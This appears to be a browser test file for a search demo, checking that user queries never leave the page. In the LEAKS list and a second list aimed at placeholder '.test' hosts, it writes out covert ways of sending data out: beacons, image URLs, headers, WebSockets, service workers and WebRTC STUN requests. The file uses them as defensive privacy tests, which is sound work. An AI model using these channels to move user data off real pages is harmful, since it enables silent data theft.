/**
 * No word of a query leaves the page, and no request shows what was asked for.
 *
 * Whole visits are recorded by the browser's own network log, service worker included; and what is recorded is tested itself.
 */

import { Demo, expect, openRouter, skillIds, tasksOf, test } from './page.js';
import { recordTraffic } from './traffic.js';

test.use({ trace: 'off' }); // Of browsers that are this file's own; it would take longer than the visits.

const TASKS = skillIds().slice(0, 20).map((skill_id) => tasksOf(skill_id)[0]);
const N_QUERIES = 100;
const VISITS_MS = 600_000;

/** A word that stands in no file of the site, another for each number. */
function secretWord(number) {
  return `zqx${(number * 7919 + 104_729).toString(36)}vkj`;
}

/** Queries of a visit, each with a word of its own; two visits share no query. @param {number} visit @param {(a: string, b: string) => number} order */
function queriesOf(visit, order) {
  const all = skillIds().slice(0, N_QUERIES).map((skill_id, i) => ({ task: tasksOf(skill_id).at(visit), word: secretWord(visit * N_QUERIES + i) }));
  return all.sort((a, b) => order(a.task, b.task)).map(({ task, word }, i) => ({ word, text: i % 3 === 0 ? `${word} ${task}` : `${task} ${word}` }));
}

async function readFirst(demo) {
  const name = await demo.names.first().innerText();
  await demo.options.first().click();
  await expect(demo.panel.getByRole('heading', { name, exact: true })).toBeVisible();
  await expect(demo.panel.locator('#panel-body > *').first()).toBeVisible();
  await demo.page.keyboard.press('Escape');
  await expect(demo.panel).toBeHidden();
}

/** Asks as a script of the page would, and waits for the answer by meaning. */
function askElement(search, text) {
  return new Promise((resolve) => {
    const done = new AbortController();
    search.addEventListener('skill-search-answer', ({ detail: { query, answer } }) => {
      if (query !== text || answer.stage === 'lexical') return;
      done.abort();
      resolve();
    }, { signal: done.signal });
    search.value = text;
  });
}

/**
 * A first visit to the demo: all that is fetched ahead arrives, a skill is read; then the queries, every tenth of them typed key by
 * key, its order improved and its best skill opened.
 * @returns {Promise<{ traffic: import('./traffic.js').Traffic, asking_ms: number }>} `asking_ms`: when the queries began
 */
async function visit({ launchOptions, baseURL }, queries, { leak } = {}) {
  let asking_ms;
  const traffic = await recordTraffic(launchOptions, async (browser) => {
    const page = await browser.newPage({ baseURL, serviceWorkers: 'allow' });
    const demo = new Demo(page);
    await demo.open();
    await demo.expectComplete();
    await demo.expectAllKept();
    await page.evaluate(() => navigator.serviceWorker.ready);
    await demo.ask('plan a wedding');
    await demo.expectReranked();
    await readFirst(demo); // The Markdown libraries are loaded.
    asking_ms = Date.now();
    const search = page.locator('skill-search');
    for (const [i, { text, word }] of queries.entries()) {
      if (i % 10 !== 5) {
        await search.evaluate(askElement, text);
      } else {
        await demo.query.fill('');
        await page.keyboard.type(text);
        await demo.expectReranked();
        await readFirst(demo);
      }
      await leak?.(page, word);
    }
  });
  return { traffic, asking_ms };
}

test('a hundred queries: the requests of a visit are the same whatever is asked, and none has a word of it', async ({ launchOptions, baseURL }) => {
  test.setTimeout(VISITS_MS);
  const first = queriesOf(0, (a, b) => a.localeCompare(b));
  const second = queriesOf(1, (a, b) => b.length - a.length);
  expect(new Set([...first, ...second].map(({ text }) => text)).size).toBe(2 * N_QUERIES);
  const visits = [];
  for (const queries of [first, second]) visits.push(await visit({ launchOptions, baseURL }, queries));
  for (const [i, { traffic, asking_ms }] of visits.entries()) {
    const asked = traffic.since(asking_ms);
    expect(asked.summary).toEqual([]);
    expect(asked.lookups).toEqual([]);
    expect([first, second][i].filter(({ word }) => traffic.mentions(word))).toEqual([]);
  }
  expect(visits[0].traffic.summary.length).toBeGreaterThan(20);
  expect(visits[0].traffic.summary).toEqual(visits[1].traffic.summary);
});

/** Ways in which a page could tell what it was asked, each with a word in it. */
const LEAKS = {
  'a request': (word) => fetch(`leak?q=${word}`),
  'the body of a request': (word) => fetch('leak', { method: 'POST', body: word }),
  'a header': (word) => fetch('leak', { headers: { 'x-query': word } }),
  'a beacon': (word) => navigator.sendBeacon('leak', word),
  'an image': (word) => (new Image().src = `leak.png?${word}`),
  'a preloaded module': (word) => document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: `${word}.js` })),
  'a worker': (word) => new Worker(`engine/worker.js?${word}`, { type: 'module' }),
  'a service worker': (word) => navigator.serviceWorker.register(`sw.js?${word}`),
  'a web socket': (word) => new WebSocket(`${location.origin.replace('http', 'ws')}/${word}`),
  'a call to a peer': async (word) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${word}.test:3478` }] });
    peer.createDataChannel('leak');
    await peer.setLocalDescription();
    await new Promise((resolve) => peer.addEventListener('icegatheringstatechange', () => peer.iceGatheringState === 'complete' && resolve()));
  },
};

test('the record would show a leak, by whichever way', async ({ launchOptions, baseURL }) => {
  const leaks = Object.values(LEAKS);
  const traffic = await recordTraffic(launchOptions, async (browser) => {
    const page = await browser.newPage({ baseURL, serviceWorkers: 'allow' });
    await new Demo(page).open();
    for (const [i, leak] of leaks.entries()) {
      await page.evaluate(`Promise.resolve((${leak})(${JSON.stringify(secretWord(i))})).catch(() => {}).then(() => {})`);
    }
    await page.evaluate(() => fetch('leak?the-last')); // What was begun before it is on its way by then.
  });
  const unseen = Object.keys(LEAKS).filter((_, i) => !traffic.mentions(secretWord(i)));
  expect(unseen).toEqual([]);
  expect(traffic.mentions(secretWord(leaks.length))).toBe(false);
});

test('the record of a visit would show one request that depends on a query, without a word of it', async ({ launchOptions, baseURL }) => {
  const queries = queriesOf(0, () => 0).slice(0, 3);
  const leak = (page, word) => page.evaluate((length) => fetch(`icon.svg?${length}`), word.length);
  const { traffic, asking_ms } = await visit({ launchOptions, baseURL }, queries, { leak });
  expect(traffic.since(asking_ms).summary.filter((line) => /icon\.svg\?\d+$/.test(line)).length).toBeGreaterThanOrEqual(3);
});

/** Even if its code were changed. Frames are left out: Chromium looks their host up before it asks the policy. */
test('the policy of the page keeps requests to other hosts from leaving', async ({ launchOptions, baseURL }) => {
  const elsewhere = [
    (word) => fetch(`http://${word}.test/`),
    (word) => navigator.sendBeacon(`http://${word}.test/`),
    (word) => (new Image().src = `http://${word}.test/`),
    (word) => document.head.append(Object.assign(document.createElement('script'), { src: `http://${word}.test/` })),
    (word) => new WebSocket(`ws://${word}.test/`),
    (word) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `http://${word}.test/` })),
  ];
  const traffic = await recordTraffic(launchOptions, async (browser) => {
    const page = await browser.newPage({ baseURL, serviceWorkers: 'allow' });
    await new Demo(page).open();
    for (const [i, leak] of elsewhere.entries()) {
      await page.evaluate(`Promise.resolve().then(() => (${leak})(${JSON.stringify(secretWord(i))})).catch(() => {}).then(() => {})`);
    }
    await page.evaluate(() => fetch('leak?the-last'));
  });
  expect(traffic.mentions('the-last')).toBe(true);
  expect(elsewhere.map((_, i) => secretWord(i)).filter((word) => traffic.mentions(word))).toEqual([]);
});

/** Without fetching ahead: what is asked for while routing, by the reranker's name. */
const SHARDS = [[null, ['cards']], ['tiny-bert-pair', ['cards', 'bodies']]];

for (const [reranker, kinds] of SHARDS) {
  test(`without fetching ahead: only shards of ${kinds.join(' and ')}, each once, and nothing of the query in them`, async ({ page, context, baseURL }) => {
    await page.goto('bench.html?scan=none&tokens=none');
    const requests = [];
    context.on('request', (request) => requests.push(request));
    const router = await openRouter(page, { prefetch: 'none', reranker });
    await router.evaluate((router) => router.reranker_ready ?? router.ready);
    const n_loading = requests.length;
    expect(requests.every((request) => request.url().startsWith(baseURL))).toBe(true);
    for (const task of TASKS) await router.evaluate((router, task) => router.route(task), task);
    const { files } = await (await fetch(`${baseURL}index/index.json`)).json();
    const shards = kinds.flatMap((kind) => files[kind].map(({ file }) => `${baseURL}index/${file}`));
    const while_routing = requests.slice(n_loading);
    const urls = while_routing.map((request) => request.url());
    expect(urls.length).toBeGreaterThan(0);
    expect(urls.filter((url) => !shards.includes(url))).toEqual([]);
    expect(new Set(urls).size).toBe(urls.length); // So there are never more than the index has.
    for (const request of while_routing) {
      expect(request.method()).toBe('GET');
      expect(request.postData()).toBeNull();
    }
  });
}

test('five tasks re-ranked, their cards and instructions: not one request, also where no service worker stands between', async ({ demo, context }) => {
  await demo.open();
  await demo.expectAllKept(); // Cards and bodies were fetched ahead.
  const ask = async (task) => {
    await demo.ask(task);
    await demo.expectReranked();
    await demo.options.first().click();
  };
  await ask('plan a wedding');
  await expect(demo.panel.locator('#panel-body > *').first()).toBeVisible();
  const requests = [];
  context.on('request', (request) => requests.push(request.url()));
  for (const task of TASKS.slice(0, 5)) {
    await ask(task);
    await expect(demo.panel.getByRole('heading', { level: 2 })).toHaveText(await demo.names.first().innerText());
  }
  expect(requests).toEqual([]);
});
